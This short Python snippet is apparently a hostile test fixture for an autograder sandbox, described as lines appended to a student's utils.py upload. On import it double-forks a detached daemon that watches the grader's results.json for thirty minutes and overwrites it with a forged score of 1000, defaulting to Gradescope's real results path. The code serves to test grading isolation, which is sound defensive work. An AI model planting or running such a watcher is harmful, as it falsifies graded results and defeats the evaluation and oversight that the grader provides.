# ==== hostile addition to reference/utils.py (tests/grading/sandbox/corpus): the upload is that file + these lines ====
# ruff: noqa: E402
_RESULTS_DIR = "__RESULTS_DIR__"  # the test puts the grader's results folder here
if _RESULTS_DIR.startswith("__"):
    _RESULTS_DIR = "/autograder/results"  # uploaded as is: Gradescope's results folder

import json as _json
import os as _os
import time as _time

_first = _os.fork()
if _first == 0:  # a daemon that waits for the grader's results.json and rewrites it after the grader's last write
    _os.setsid()
    if _os.fork() == 0:
        _target = _os.path.join(_RESULTS_DIR, "results.json")
        _seen = None
        _deadline = _time.monotonic() + 1_800
        while _time.monotonic() < _deadline:
            try:
                _stamp = _os.stat(_target).st_mtime_ns
                if _stamp != _seen:
                    with open(_target, "w") as _handle:
                        _json.dump({"score": 1000.0, "output": "FORGED by a watcher", "tests": []}, _handle)
                    _seen = _os.stat(_target).st_mtime_ns
            except OSError:
                pass
            _time.sleep(0.01)
        _os._exit(0)
    _os._exit(0)
_os.waitpid(_first, 0)
print("a watcher is waiting for results.json")
